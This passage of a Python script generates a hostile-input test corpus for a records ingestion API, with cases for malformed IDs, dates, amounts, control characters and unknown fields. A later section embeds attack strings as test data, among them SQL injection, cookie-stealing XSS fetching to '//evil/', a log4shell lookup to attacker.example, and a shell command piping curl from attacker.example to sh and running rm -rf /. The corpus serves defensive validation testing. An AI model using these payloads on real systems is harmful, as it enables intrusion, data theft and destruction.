    ("agency-uscc-check", I(), [("agency.code", "11430400013248734J")], "invalid_check_digit", "agency USCC with a wrong check character"),
    ("party-uscc-17", I(), [("party.idNumber", PARTY_USCC[:17])], "invalid_length", "party USCC of 17 characters"),
    ("agency-uscc-19", I(), [("agency.code", AGENCY + "0")], "invalid_length", "agency USCC of 19 characters"),
    ("party-uscc-lowercase", I(), [("party.idNumber", PARTY_USCC.lower())], "invalid_character", "party USCC in lowercase"),
    ("agency-uscc-letter-o", I(), [("agency.code", "11430400O13248734H")], "invalid_character", "agency USCC with the letter O"),
    ("agency-uscc-fullwidth", I(), [("agency.code", "１１430400013248734H")], "invalid_character", "agency USCC with fullwidth digits"),
    ("resident-id-check", citizen(), [("party.idNumber", RESIDENT_ID[:17] + ("0" if RESIDENT_ID[17] != "0" else "1"))], "invalid_check_digit",
     "resident ID number with a wrong check digit"),
    ("resident-id-17", citizen(), [("party.idNumber", RESIDENT_ID[:17])], "invalid_length", "resident ID number of 17 digits"),
    ("resident-id-letter", citizen(), [("party.idNumber", "43040219900307123A")], "invalid_character", "resident ID number ending in A"),
    ("resident-id-feb-30", citizen(), [("party.idNumber", resident_check("43040219900230123"))], "invalid_birth_date",
     "resident ID number born on 30 February"),
    ("resident-id-1899", citizen(), [("party.idNumber", resident_check("43040218991231123"))], "invalid_birth_date",
     "resident ID number born in 1899"),
    ("region-5-digits", I(), [("regionCode", "43040")], "invalid_region_code", "regionCode of 5 digits"),
    ("region-000000", I(), [("regionCode", "000000")], "invalid_region_code", "regionCode 000000"),
    ("region-fullwidth", I(), [("regionCode", "４３０４０５")], "invalid_region_code", "regionCode in fullwidth digits"),
    ("catalog-13-digits", I(), [("item.catalogCode", CATALOG[:13])], "invalid_catalog_code", "catalogCode of 13 digits"),
    ("catalog-letters", I(), [("item.catalogCode", "4301210001000A")], "invalid_catalog_code", "catalogCode with a letter"),
    ("implementation-short", I(), [("item.implementationCode", IMPLEMENTATION[:19])], "invalid_length", "implementationCode of 19 characters"),
    ("implementation-lowercase", I(), [("item.implementationCode", IMPLEMENTATION.lower())], "invalid_character", "implementationCode in lowercase"),
    ("implementation-agency", I(), [("item.implementationCode", "11430400013248734J" + IMPLEMENTATION[18:])], "invalid_agency_prefix",
     "implementationCode whose first 18 characters are not a valid USCC"),
    ("implementation-level-0", I(), [("item.implementationCode", AGENCY + "0" + IMPLEMENTATION[19:])], "invalid_level_digit",
     "implementationCode with level digit 0"),
    ("implementation-level-9", I(), [("item.implementationCode", AGENCY + "9" + IMPLEMENTATION[19:])], "invalid_level_digit",
     "implementationCode with level digit 9"),
    ("nature-citizen-uscc", I(), [("party.nature", "1")], "nature_id_type_mismatch", "a citizen (nature 1) identified by a USCC"),
    ("item-unidentified", I(), [("item.localCode", DEL), ("item.implementationCode", DEL)], "item_unidentified",
     "item with a catalogCode only (no localCode, no implementationCode)"),
    ("section-kind-mismatch", I(), [("coercion", coercion()["coercion"])], "section_kind_mismatch", "an inspection record also carrying a coercion section"),
]:
    jrec(f"code-{name}", code, what, with_(base, ("localId", f"HX-CD-{name}"), *changes))

# times
for name, value, what in [
    ("no-offset", "2026-11-20T09:30:00", "no UTC offset"),
    ("date-only", "2026-11-20", "a date only"),
    ("space-separator", "2026-11-20 09:30:00+08:00", "a space instead of T"),
    ("feb-30", "2026-02-30T09:30:00+08:00", "30 February"),
    ("feb-29-non-leap", "2026-02-29T09:30:00+08:00", "29 February in a non-leap year"),
    ("month-13", "2026-13-01T09:30:00+08:00", "month 13"),
    ("hour-24", "2026-11-20T24:00:00+08:00", "hour 24"),
    ("leap-second", "2026-12-31T23:59:60+08:00", "second 60"),
    ("year-1899", "1899-11-20T09:30:00+08:00", "year 1899"),
    ("offset-no-colon", "2026-11-20T09:30:00+0800", "offset without a colon"),
    ("offset-15h", "2026-11-20T09:30:00+15:00", "offset +15:00"),
    ("lowercase-z", "2026-11-20T01:30:00z", "lowercase z"),
    ("fraction-10-digits", "2026-11-20T09:30:00.1234567890+08:00", "a fraction of 10 digits"),
    ("empty-fraction", "2026-11-20T09:30:00.+08:00", "a dot without fraction digits"),
    ("trailing-space", "2026-11-20T09:30:00+08:00 ", "a trailing space"),
    ("fullwidth-digits", "２０２６-11-20T09:30:00+08:00", "fullwidth digits in the year"),
    ("chinese-date", "2026年11月20日09时30分00秒", "a Chinese date"),
    ("unix-seconds-string", "1795404600", "Unix seconds as a string"),
]:
    jrec(f"timestamp-{name}", "invalid_timestamp", f"inspection.date: {what}", with_(I(f"HX-TS-{name}"), ("inspection.date", value)))
jrec("timestamp-penalty-filedat-slash", "invalid_timestamp", "penalty.filedAt with slashes", with_(penalty("HX-TS-P"), ("penalty.filedAt", "2026/10/08T09:00:00+08:00")))
jrec("submitted-before-act", "submitted_before_act", "submittedAt one second before the inspection",
     with_(I("HX-OR-1"), ("submittedAt", "2026-11-20T09:29:59+08:00")))
jrec("submitted-same-instant-other-offset", "submitted_before_act", "submittedAt the same instant as the inspection written in UTC",
     with_(I("HX-OR-2"), ("submittedAt", "2026-11-20T01:30:00Z")))
jrec("decided-before-filed", "decided_before_filed", "decidedAt before filedAt",
     with_(penalty("HX-OR-3"), ("penalty.decidedAt", "2026-10-01T15:00:00+08:00")))
jrec("closed-before-filed", "closed_before_filed", "execution.closedAt before filedAt",
     with_(penalty("HX-OR-4"), ("penalty.execution.closedAt", "2026-10-01T10:00:00+08:00")))
jrec("ended-before-started", "ended_before_started", "coercion endAt equal to startAt", with_(coercion("HX-OR-5"), ("coercion.endAt", "2026-11-01T09:00:00+08:00")))

# money
for name, value, what in [("negative", "-5", "-5"), ("three-places", "5000.001", "5000.001"), ("exponent", "1e3", "1e3"),
                          ("leading-zero", "05", "05"), ("trailing-dot", "5.", "5."), ("leading-dot", ".5", ".5"),
                          ("thousands-separator", "5,000", "5,000"), ("nan", "NaN", "NaN"), ("plus", "+5", "+5"),
                          ("fourteen-digits", "12345678901234", "14 integer digits"), ("fullwidth", "５０００", "fullwidth digits"),
                          ("with-unit", "5000元", "5000元"), ("hex", "0x1388", "0x1388"), ("leading-space", " 5000", "a leading space")]:
    jrec(f"money-{name}", "invalid_money", f"fineAmount {what}", with_(penalty(f"HX-MN-{name}"), ("penalty.fineAmount", value)))
jrec("money-paid-negative", "invalid_money", "execution.paidAmount -0.01", with_(penalty("HX-MN-P"), ("penalty.execution.paidAmount", "-0.01")))
jrec("money-fine-zero", "fine_not_positive", "a fine (kind 02) of 0.00", with_(penalty("HX-MN-Z"), ("penalty.fineAmount", "0.00"), ("penalty.execution.paidAmount", "0")))

# lists
jrec("too-many-kinds", "too_many", "15 penalty kinds (at most 14)", with_(penalty("HX-LS-1"), ("penalty.kinds", ["01"] * 15)))
jrec("too-many-inspectors-10000", "too_many", "10 000 inspectors", with_(I("HX-LS-2"), ("inspection.inspectors", [{"name": "x", "certificateNo": "y"}] * 10000)))
jrec("too-few-kinds", "too_few", "an empty kinds list (at least 1)", with_(penalty("HX-LS-3"), ("penalty.kinds", [])))
jrec("too-few-inspectors-one", "too_few_inspectors", "one inspector", with_(I("HX-LS-4"), ("inspection.inspectors", [I()["inspection"]["inspectors"][0]])))
jrec("too-few-inspectors-none", "too_few_inspectors", "no inspector", with_(I("HX-LS-5"), ("inspection.inspectors", [])))

# control characters
for name, path, value, what in [
    ("u0001-actionname", "actionName", "检查\u0001", "\\u0001 in actionName"),
    ("u001f-party-name", "party.name", "某\u001f公司", "\\u001f in party.name"),
    ("u007f-escaped", "actionName", Raw('"检查\\u007f"'), "\\u007f (escaped) in actionName"),
    ("del-raw-byte", "actionName", "检查\x7f", "a raw DEL byte in actionName"),
    ("carriage-return", "actionName", "检查\r记录", "\\r in actionName (tab and newline are allowed, CR is not)"),
    ("backspace", "submittedBy", "张三\b\b\b李四", "\\b in submittedBy"),
    ("form-feed", "party.registeredAddress", "湖南省\f衡阳市", "\\f in registeredAddress"),
    ("ansi-escape", "submittedBy", "\u001b[31m张三\u001b[0m", "ANSI terminal escape sequences in submittedBy"),
    ("control-in-localid", "localId", "HX-\u0007", "\\u0007 in localId (reported before the identifier check)"),
    ("control-in-dictionary", "inspection.result", "0\u00011", "\\u0001 inside a dictionary value"),
    ("crlf-header-injection", "submittedBy", "张三\r\nX-Injected: 1", "CRLF header injection in submittedBy"),
]:
    rec = with_(I(f"HX-CC-{name}"), (path, value))
    jrec(f"control-{name}", "control_character", what, rec)

# unknown fields
for name, changes, what in [
    ("top-level", [("extra", "x")], "an extra member in the record"),
    ("nested-party", [("party.email", "a@example.com")], "an unknown member in party"),
    ("in-inspector", [("inspection.inspectors[0].phone", "110")], "an unknown member in an inspector"),
    ("proto", [("__proto__", {"isAdmin": True})], "a __proto__ member in the record"),
    ("constructor", [("constructor", {"prototype": {"x": 1}})], "a constructor member (prototype pollution)"),
    ("mongo-where", [("$where", "sleep(5000)")], "a $where member (NoSQL injection)"),
    ("case-localid", [("localid", "HX-2")], "localid in lowercase next to localId"),
    ("empty-name", [(("",), "x")], "a member with an empty name"),
    ("sql-name", [("x\"; DROP TABLE records; --", "1")], "a member name with SQL"),
    ("dotted-name", [(("party.name",), "x")], "a member named party.name (a dotted name is not a path)"),
]:
    jrec(f"unknown-field-{name}", "unknown_field", what, with_(I(f"HX-UF-{name}"), *changes))

# injection strings in otherwise valid records, each with one deliberate error
for name, changes, code, what in [
    ("sql-actionname-bad-uscc", [("actionName", "'; DROP TABLE records; --"), ("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit",
     "SQL injection in actionName; wrong party USCC"),
    ("sql-union-party-name-bad-region", [("party.name", "x' UNION SELECT secret FROM department_keys --"), ("regionCode", "00000A")], "invalid_region_code",
     "SQL UNION in party.name; bad region code"),
    ("sql-localid-bad-date", [("localId", "1' OR '1'='1"), ("inspection.date", "2026-11-20T09:30:00")], "invalid_timestamp",
     "SQL tautology in localId; inspection date without offset"),
    ("sql-comment-localcode-one-inspector", [("item.localCode", "JC-0042'/**/OR/**/1=1--"),
                                             ("inspection.inspectors", [I()["inspection"]["inspectors"][0]])], "too_few_inspectors",
     "SQL with inline comments in item.localCode; one inspector"),
    ("script-party-name-bad-region", [("party.name", "<script>alert(1)</script>"), ("regionCode", "4304051")], "invalid_region_code",
     "script tag in party.name; region code of 7 digits"),
    ("img-onerror-actionname-bad-uscc", [("actionName", '<img src=x onerror="fetch(\'//evil/\'+document.cookie)">'),
                                          ("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit", "img onerror XSS in actionName; wrong party USCC"),
    ("javascript-url-address-bad-catalog", [("party.businessAddress", "javascript:alert(1)"), ("item.catalogCode", "1")], "invalid_catalog_code",
     "javascript: URL in businessAddress; catalogCode of 1 digit"),
    ("svg-onload-legalbasis-bad-kind", [("item.legalBasis", "<svg/onload=alert(1)>"), ("operation", "drop")], "invalid_value",
     "svg onload in legalBasis; operation drop"),
    ("log4shell-submittedby-bad-date", [("submittedBy", "${jndi:ldap://attacker.example/a}"), ("submittedAt", "2026-11-21")], "invalid_timestamp",
     "log4shell lookup in submittedBy; submittedAt date only"),
    ("template-injection-name-unknown-field", [("subject.name", "{{7*7}}${7*7}<%= 7*7 %>"), ("subject.code", "x")], "unknown_field",
     "template injection in subject.name; an unknown member subject.code"),
    ("path-traversal-localid-bad-result", [("localId", "../../../../etc/passwd"), ("inspection.result", "00")], "unknown_dictionary_value",
     "path traversal in localId; inspection result 00"),
    ("shell-injection-actionname-bad-uscc", [("actionName", "$(curl attacker.example|sh); `id`; | rm -rf /"), ("agency.code", "11430400013248734Z")],
     "invalid_character", "shell injection in actionName; agency USCC with Z"),
    ("ldap-injection-name-bad-check", [("party.name", "*)(uid=*))(|(uid=*"), ("party.idNumber", "91330105MA2KER1H4A")], "invalid_check_digit",
     "LDAP filter injection in party.name; wrong USCC check character"),
    ("xpath-injection-bad-date-order", [("actionName", "' or 1=1 or ''='"), ("submittedAt", "2026-11-19T10:00:00+08:00")], "submitted_before_act",
     "XPath injection in actionName; submittedAt before the inspection"),
    ("rtl-override-name-bad-uscc", [("party.name", "\u202egnp.exe\u202c某公司"), ("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit",
     "right-to-left override in party.name; wrong party USCC"),
    ("zero-width-localid-bad-region", [("localId", "HX\u200b-\u200d1\ufeff"), ("regionCode", "43 405")], "invalid_region_code",
     "zero-width characters and BOM inside localId; region code with a space"),
    ("emoji-astral-name-bad-uscc", [("party.name", "药房\U0001F48A\U0001F600𠀀"), ("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit",
     "emoji and an astral CJK character in party.name; wrong party USCC"),
    ("homoglyph-kind", [("kind", "іnspection")], "invalid_value", "kind spelled with a Cyrillic і (homoglyph)"),
    ("crlf-escaped-localid", [("localId", "HX-1\r\nX-Hub-Key: hk_x")], "control_character", "CRLF header injection in localId"),
    ("json-in-string-bad-uscc", [("actionName", '{"records":[{"localId":"x"}]}'), ("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit",
     "a JSON document inside actionName; wrong party USCC"),
]:
    jrec(f"inject-{name}", code, what, with_(I(f"HX-INJ-{name[:20]}"), *changes))
jrec("inject-sql-backslash-bad-money", "invalid_money", "SQL with a backslash-escaped quote in penalty.facts; fineAmount 1e3",
     with_(penalty("HX-INJ-BS"), ("penalty.facts", "\\'; SELECT pg_sleep(10); --"), ("penalty.fineAmount", "1e3")))
jrec("inject-format-string-bad-money", "invalid_money", "format string %s%n%x in penalty.basis; fineAmount 5000.001",
     with_(penalty("HX-INJ-FS"), ("penalty.basis", "%s%s%s%n%x%p"), ("penalty.fineAmount", "5000.001")))
jrec("inject-sql-in-batchid", "invalid_check_digit", "SQL injection in batchId (taken: 50 characters or fewer); wrong party USCC",
     T.replace("2026112600001", "1'; DROP TABLE ledger; --"))
jrec("inject-mixed-batch-all-rejected", "invalid_check_digit", "three records with different errors: nothing is stored",
     jbatch(FILLER, with_(I("HX-MIX-2"), ("regionCode", "1")), with_(penalty("HX-MIX-3"), ("penalty.fineAmount", "-1"))))


# ------------------------------------------------------------------------------------------------ write
README = """# Hostile-input corpus for `POST /api/v1/records`

Generated by `scripts/gen_hostile_corpus.py` — do not edit by hand. Regenerate from the repository root with

    python3 scripts/gen_hostile_corpus.py

(Python 3, standard library only, deterministic: the same bytes every run). The generator removes files here that
are no longer cases, so `manifest.tsv` always has exactly one line per case file.

## `manifest.tsv`

One line per case, no header, tab-separated, UTF-8:

| column | meaning |
| --- | --- |
| `file` | the case file in this folder; its bytes are the request body exactly (some files are deliberately not UTF-8, e.g. GB18030, UTF-16 or invalid UTF-8) |
| `content_type` | the `Content-Type` header to send, verbatim (e.g. `application/json`, `application/xml; charset=GB18030`, `text/plain`) |
| `expected_status` | the HTTP status the hub must answer: `400`, `413`, `415`, or `200` when the request is fine as a whole but its record must be rejected |
| `expected_code` | for a non-200 answer, `errors[0].code` of the whole-request answer; for `200`, a `code` that must appear among `results[0].errors` (and `results[0].status` must be `rejected`) |
| `scope` | `request` (a whole-request refusal) or `record` (a 200 whose record is rejected) |
| `note` | a short English description of the case |

Every case is meant to be sent **signed** with a valid department key (authentication is tested elsewhere), to
`POST /api/v1/records`, and no case may write anything to the database: every record in every body has at least
one error the record reader finds (a request-level case carries a record with a wrong USCC check character too, so
even a decoder that wrongly let it through could not store it). The expectations hold with or without a department
profile (no case uses a profile's own field names or values).

`oversize.json` is a placeholder holding the text `GENERATE:100MB`: the test streams 100 MB of JSON instead of
sending the file, and expects `413 body_too_large`.

The expectations come from the source of the decode and read path: `IngestService.decoder(for:)` (media type and
charset), `JSONBodyDecoder`/`JSONParser` (nesting limit 64, numbers at most 64 characters, no `\\u0000`, strict
UTF-8, duplicate members refused), `XMLBodyDecoder`/`SafeXMLParser` (DOCTYPE and `<!ENTITY` refused, depth limit 32,
libxml2's own limit 256 beyond that, UTF-8/GBK/GB18030/GB2312 only) and `RecordXML`, then `RecordReader` (batch
level, then schema) and `RecordRules`.
"""


def main():
    names = [c[0] for c in CASES]
    dupes = {n for n in names if names.count(n) > 1}
    assert not dupes, dupes
    os.makedirs(OUT, exist_ok=True)
    keep = set(names) | {"manifest.tsv", "README.md"}
    for f in sorted(os.listdir(OUT)):
        if f not in keep and os.path.isfile(os.path.join(OUT, f)):
            os.remove(os.path.join(OUT, f))
    lines = []
    for file, ct, status, code, scope, note, body in CASES:
        with open(os.path.join(OUT, file), "wb") as f:
            f.write(body)
        lines.append("\t".join([file, ct, str(status), code, scope, note]))
    with open(os.path.join(OUT, "manifest.tsv"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    with open(os.path.join(OUT, "README.md"), "w", encoding="utf-8", newline="\n") as f:
        f.write(README)
    counts = {}
    for c in CASES:
        counts[(c[2], c[3])] = counts.get((c[2], c[3]), 0) + 1
    print(f"{len(CASES)} cases written to {os.path.relpath(OUT, ROOT)}")
    for (status, code), n in sorted(counts.items()):
        print(f"  {status} {code:28} {n}")


if __name__ == "__main__":
    sys.exit(main())
